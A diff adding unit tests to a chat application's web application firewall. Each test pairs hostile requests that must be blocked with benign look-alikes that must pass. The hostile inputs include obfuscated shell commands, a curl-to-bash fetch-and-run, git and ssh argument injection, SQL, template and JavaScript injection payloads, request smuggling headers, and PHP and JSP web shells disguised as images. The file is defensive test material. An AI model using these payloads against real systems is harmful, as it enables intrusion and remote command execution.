@@ -149,6 +149,115 @@ static const struct wcase cases[] = {
 	{__LINE__, 0, "OPTIONS", "/api/v1/channels", NULL, "origin: https://chat.example.com\naccess-control-request-method: POST", NULL, NULL},
 };
 
+/* Families added for requests the rules once missed (issue 13, "WAF that
+ * generalises"). Each family covers a technique, not one sample: the
+ * "block" rows passed before its detector or rule existed (except the
+ * protocol rows marked "kept", which pin down coverage that was already
+ * there), and the "pass" rows are the look-alikes each must leave alone.
+ * Profiles come from the route, as in the pipeline. */
+#define PROFILE "/api/v1/users/me"
+#define SEARCH "/api/v1/search"
+static const struct wcase gcases[] = {
+	/* Command words split by shell quoting (150108, and the shell view of
+	 * 150100-150105). */
+	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"c'a't /e\\\"t\\\"c/pa''sswd\"}"},
+	{__LINE__, 1, "GET", SEARCH, "q=w%5Cho%5Cam%5Ci", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", SEARCH, "q=w%24%40hoami", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", SEARCH, "q=c%24%7B%40%7Dat%20notes.txt", NULL, NULL, NULL},
+	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"$'\\\\x69\\\\x64'\"}"},
+	{__LINE__, 1, "POST", "/api/v1/channels", NULL, NULL, JSON, "{\"name\":\"x\",\"topic\":\"a;c\\\"u\\\"rl -s 203.0.113.4|b''ash\"}"},
+	{__LINE__, 1, "GET", SEARCH, "q=x%7C%7Cp%27y%27thon3%20-c%20%27import%20os%27", NULL, NULL, NULL},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"I'd rather `cat` the file\"}"},
+	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"I'd rather not say\"}"},
+	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"D'Arcy O'Neil-D'Souza\"}"},
+	{__LINE__, 0, "GET", SEARCH, "q=rock%27n%27roll%20%22cat%22%20videos", NULL, NULL, NULL},
+	{__LINE__, 0, "GET", SEARCH, "q=C%3A%5CUsers%5Cid%5Cdocs", NULL, NULL, NULL},
+	{__LINE__, 0, "GET", SEARCH, "q=price%20%245%20or%20%2410", NULL, NULL, NULL},
+	/* Paths spelled with wildcards (150109). */
+	{__LINE__, 1, "GET", SEARCH, "q=x;/%3F%3F%3F/c%3Ft%20/e%3F%3F/p%3Fss*", NULL, NULL, NULL},
+	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"x|/u*r/b?n/i?\"}"},
+	{__LINE__, 1, "GET", "/", NULL, "referer: https://x.example/?a=|/b[i]n/s[h]", NULL, NULL},
+	{__LINE__, 0, "GET", SEARCH, "q=/api/*/messages", NULL, NULL, NULL},
+	{__LINE__, 0, "GET", SEARCH, "q=*.pdf%20or%20*.png?", NULL, NULL, NULL},
+	{__LINE__, 0, "GET", SEARCH, "q=https://example.com/a?b=1&c=d", NULL, NULL, NULL},
+	/* Git and ssh argument injection, ext:: transport (150110). */
+	{__LINE__, 1, "GET", SEARCH, "q=main&ref=--upload-pack%3Dtouch%20/tmp/x", NULL, NULL, NULL},
+	{__LINE__, 1, "POST", "/api/v1/channels", NULL, NULL, JSON, "{\"name\":\"m\",\"repo\":\"-c core.sshCommand=touch /tmp/y\"}"},
+	{__LINE__, 1, "POST", "/api/v1/channels", NULL, NULL, JSON, "{\"name\":\"m\",\"repo\":\"ext::sh -c touch% /tmp/z\"}"},
+	{__LINE__, 1, "GET", SEARCH, "q=x&remote=--config%3Dprotocol.ext.allow%3Dalways", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", SEARCH, "q=x&host=-oProxyCommand%3Dsh%20-c%20id", NULL, NULL, NULL},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"use git -c core.sshCommand=\\\"ssh -i ~/.ssh/deploy\\\" clone, or --upload-pack if the remote moved\"}"},
+	{__LINE__, 0, "GET", SEARCH, "q=git%20clone%20--depth%201", NULL, NULL, NULL},
+	{__LINE__, 0, "GET", SEARCH, "q=curl%20--output%20file.txt%20-c%20cookies", NULL, NULL, NULL},
+	/* Template probes that tell engines apart (160101, 160107). */
+	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"{{7*'7'}}\"}"},
+	{__LINE__, 1, "GET", SEARCH, "q=%7B%7B%20%227%22*7%20%7D%7D", NULL, NULL, NULL},
+	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"<%- 7*7 -%>\"}"},
+	{__LINE__, 1, "PUT", "/api/v1/channels/7/topic", NULL, NULL, JSON, "{\"topic\":\"@{ var x = 7*7; }\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"{{ name }} in our Jinja template docs, and {{7*'7'}} prints 7777777\"}"},
+	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"{{ name }} fan @{team}\"}"},
+	{__LINE__, 0, "GET", SEARCH, "q=why%20is%207*7%3D49%20@(home)", NULL, NULL, NULL},
+	/* SQL: parenthesis breakout (130100) and SET-list injection (130113). */
+	{__LINE__, 1, "GET", SEARCH, "q=%27))%20OR%20((1%3D1", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", SEARCH, "q=x%27)%20or%20(%27a%27%3D%27a", NULL, NULL, NULL},
+	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"', is_admin=1 WHERE 1=1 --\"}"},
+	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"bio\":\"x', role='owner\"}"},
+	{__LINE__, 1, "POST", "/settings/profile", NULL, NULL, FORM, "display_name=a%22%2C+email%3D%27x%40evil.example"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"SELECT * FROM users WHERE id=1 -- is this right?\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"UPDATE users SET name='x', role='admin' WHERE id = 1; is that atomic?\"}"},
+	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"Smith, John (ops)\",\"bio\":\"I'm 'Bob', not Robert; a=b is fine\"}"},
+	{__LINE__, 0, "GET", SEARCH, "q=(api%20OR%20sdk)%20AND%20(docs)", NULL, NULL, NULL},
+	/* JavaScript string-context breakout (140107). */
+	{__LINE__, 1, "GET", SEARCH, "q=%27%3Balert(1)%2F%2F", NULL, NULL, NULL},
+	{__LINE__, 1, "GET", SEARCH, "q=%22-alert(1)-%22", NULL, NULL, NULL},
+	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"\\\\\\\";alert(1);//\"}"},
+	{__LINE__, 1, "GET", SEARCH, "q=%27%7D%5D%3Btop%5B%27al%27%2B%27ert%27%5D(1)%2F%2F", NULL, NULL, NULL},
+	{__LINE__, 0, "GET", SEARCH, "q=it%27s%20-%20a%20(test)", NULL, NULL, NULL},
+	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"\\\"Bob\\\" - King (ops)\"}"},
+	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"in JS, 'a' + f(x) + 'b' concatenates; alert(1) pops a dialog\"}"},
+	/* Scanner user agents (110100). */
+	{__LINE__, 1, "GET", "/", NULL, "user-agent: Fuzz Faster U Fool v2.1.0-dev", NULL, NULL},
+	{__LINE__, 1, "GET", "/", NULL, "user-agent: Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", NULL, NULL},
+	{__LINE__, 1, "GET", "/", NULL, "user-agent: dirsearch/0.4.3", NULL, NULL},
+	{__LINE__, 0, "GET", "/", NULL, "user-agent: PostmanRuntime/7.37.3", NULL, NULL},
+	{__LINE__, 0, "GET", "/", NULL, "user-agent: Go-http-client/2.0", NULL, NULL},
+	/* Protocol: smuggling framings, httpoxy (in-process; web servers may
+	 * drop both before PlexiChat sees them) and data after the end of a
+	 * multipart body (100133). */
+	{__LINE__, 1, "POST", MSG, NULL, "transfer-encoding: chunked", JSON, "{\"body\":\"x\"}"}, /* kept */
+	{__LINE__, 1, "GET", "/api/v1/channels", NULL, "transfer-encoding: chunked , identity", NULL, NULL}, /* kept */
+	{__LINE__, 1, "GET", "/api/v1/channels", NULL, "transfer-encoding: xchunked", NULL, NULL}, /* kept */
+	{__LINE__, 1, "GET", "/api/v1/channels", NULL, "proxy: http://203.0.113.7:3128", NULL, NULL}, /* kept */
+	{__LINE__, 1, "GET", "/api/v1/channels", NULL, "transfer-encoding: chunked\ntransfer-encoding: chunked", NULL, NULL},
+	{__LINE__, 1, "POST", "/settings/profile", NULL, NULL, "multipart/form-data; boundary=q",
+	 "--q\r\nContent-Disposition: form-data; name=\"display_name\"\r\n\r\nAda\r\n--q--\r\n"
+	 "--q\r\nContent-Disposition: form-data; name=\"role\"\r\n\r\nadmin\r\n--q--\r\n"},
+	{__LINE__, 1, "POST", "/settings/profile", NULL, NULL, "multipart/form-data; boundary=q",
+	 "--q\r\nContent-Disposition: form-data; name=\"display_name\"\r\n\r\nAda\r\n--q--\r\nrole=admin"},
+	{__LINE__, 0, "POST", "/settings/profile", NULL, NULL, "multipart/form-data; boundary=q",
+	 "--q\r\nContent-Disposition: form-data; name=\"display_name\"\r\n\r\nAda\r\n--q--\r\n\r\n"},
+	{__LINE__, 0, "GET", "/api/v1/channels", NULL, "via: 1.1 edge\nx-forwarded-for: 198.51.100.2, 10.0.0.1", NULL, NULL},
+};
+
+START_TEST(test_generalised)
+{
+	const struct wcase *c = &gcases[_i];
+	struct px_request r;
+	struct px_waf_verdict v;
+	struct px_buf js = PX_BUF_INIT;
+	enum px_err e;
+
+	build(&r, c->method, c->path, c->query, c->headers, c->ctype, c->body,
+	      c->body ? strlen(c->body) : 0);
+	e = px_waf_inspect(waf, &r, px_waf_profile_for_path(c->method, c->path), &v);
+	px_waf_verdict_json(&v, &js);
+	ck_assert_msg((e != PX_OK) == c->block, "line %d: expected %s, got %s %s", c->line,
+		      c->block ? "block" : "pass", e != PX_OK ? "block" : "pass", js.data);
+	px_buf_free(&js);
+	px_request_clear(&r);
+}
+END_TEST
+
 START_TEST(test_cases)
 {
 	const struct wcase *c = &cases[_i];
@@ -341,6 +450,76 @@ START_TEST(test_upload_png)
 }
 END_TEST
 
+/* A file sent as the raw body of a PUT or POST is judged as an upload
+ * too: its bytes, its declared type and its Content-Disposition name. */
+static enum px_err raw_upload(const char *method, const char *ctype, const char *cd,
+			      const void *data, size_t n, struct px_waf_verdict *v)
+{
+	struct px_request r;
+	enum px_err e;
+
+	build(&r, method, "/api/v1/users/me/avatar", NULL, cd, ctype, data, n);
+	e = px_waf_inspect(waf, &r, px_waf_profile_for_path(method, "/api/v1/users/me/avatar"), v);
+	px_request_clear(&r);
+	return e;
+}
+
+START_TEST(test_raw_upload)
+{
+	static const char php[] = "<?php system($_GET['c']); ?>";
+	static const char gif[] = "GIF89a;<?php passthru($_REQUEST['x']);";
+	static const char jsp[] = "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>";
+	static const char pdf[] = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+				  "trailer\n<< /Root 1 0 R >>\n%%EOF\n";
+	unsigned char poly[sizeof(png1) + sizeof(php)];
+	struct px_waf_verdict v;
+
+	ck_assert_int_ne(raw_upload("PUT", "image/png", NULL, php, sizeof(php) - 1, &v), PX_OK);
+	ck_assert_int_ne(raw_upload("POST", "image/gif", NULL, gif, sizeof(gif) - 1, &v), PX_OK);
+	ck_assert_int_ne(raw_upload("PUT", "image/jpeg", NULL, jsp, sizeof(jsp) - 1, &v), PX_OK);
+	memcpy(poly, png1, sizeof(png1));
+	memcpy(poly + sizeof(png1), php, sizeof(php) - 1);
+	ck_assert_int_ne(raw_upload("PUT", "image/png", NULL, poly, sizeof(png1) + sizeof(php) - 1, &v),
+			 PX_OK);
+	ck_assert_int_ne(raw_upload("PUT", "image/png", "content-disposition: attachment; filename=\"a.php\"",
+				    png1, sizeof(png1), &v), PX_OK);
+	/* real images and documents go through, NUL bytes and all */
+	ck_assert_int_eq(raw_upload("PUT", "image/png", NULL, png1, sizeof(png1), &v), PX_OK);
+	ck_assert_int_eq(raw_upload("PUT", "image/png", "content-disposition: attachment; filename=\"me.png\"",
+				    png1, sizeof(png1), &v), PX_OK);
+	ck_assert_int_eq(raw_upload("POST", "application/pdf", NULL, pdf, sizeof(pdf) - 1, &v), PX_OK);
+}
+END_TEST
+
+struct shcase {
+	int line;
+	const char *in, *want;
+	int changed;
+};
+
+static const struct shcase shcases[] = {
+	{__LINE__, "c'a't /e\"t\"c/pa''sswd", "cat /etc/passwd", 1},
+	{__LINE__, "w\\ho\\am\\i", "whoami", 1},
+	{__LINE__, "w$@hoami;c${*}at", "whoami;cat", 1},
+	{__LINE__, "cat${ifs}/etc/hosts$ifs-n", "cat /etc/hosts -n", 1},
+	{__LINE__, "$'id'", "id", 1},
+	{__LINE__, "plain words, no quoting", "plain words, no quoting", 0},
+	{__LINE__, "$ifsx ${home}", "$ifsx ${home}", 0},
+};
+
+START_TEST(test_shell_view)
+{
+	const struct shcase *c = &shcases[_i];
+	struct px_buf out = PX_BUF_INIT;
+	int changed = px_waf_norm_shell(c->in, strlen(c->in), &out);
+
+	ck_assert_msg(strcmp(out.data, c->want) == 0 && changed == c->changed,
+		      "line %d: expected \"%s\" (%d), got \"%s\" (%d)", c->line, c->want,
+		      c->changed, out.data, changed);
+	px_buf_free(&out);
+}
+END_TEST
+
 struct ncase {
 	int line;
 	const char *in;
@@ -465,6 +644,9 @@ static Suite *suite(void)
 	tcase_add_test(tc, test_profiles_and_reload_errors);
 	tcase_add_loop_test(tc, test_upload_profile, 0, (int)(sizeof(ucases) / sizeof(ucases[0])));
 	tcase_add_test(tc, test_upload_png);
+	tcase_add_loop_test(tc, test_generalised, 0, (int)(sizeof(gcases) / sizeof(gcases[0])));
+	tcase_add_test(tc, test_raw_upload);
+	tcase_add_loop_test(tc, test_shell_view, 0, (int)(sizeof(shcases) / sizeof(shcases[0])));
 	suite_add_tcase(s, tc);
 	return s;
 }
